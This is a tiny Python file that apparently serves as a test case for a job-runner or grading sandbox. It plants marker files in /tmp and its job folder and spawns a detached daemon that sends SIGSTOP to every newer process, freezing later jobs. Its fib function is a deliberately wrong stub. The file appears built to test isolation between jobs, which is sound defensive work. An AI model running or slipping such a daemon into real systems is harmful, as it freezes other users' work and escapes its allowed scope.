# Leaves files in /tmp and its job folder and a daemon that stops every newer process, for the next job.

import os, signal, time
with open("/tmp/planted", "w") as f:
    f.write("x")
with open("planted", "w") as f:
    f.write("x")
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        me = os.getpid()
        while True:  # stop every newer process of the user
            for name in os.listdir("/proc"):
                if name.isdigit() and int(name) > me:
                    try:
                        os.kill(int(name), signal.SIGSTOP)
                    except OSError:
                        pass
            time.sleep(0.01)
    os._exit(0)
def fib(n):
    return -1
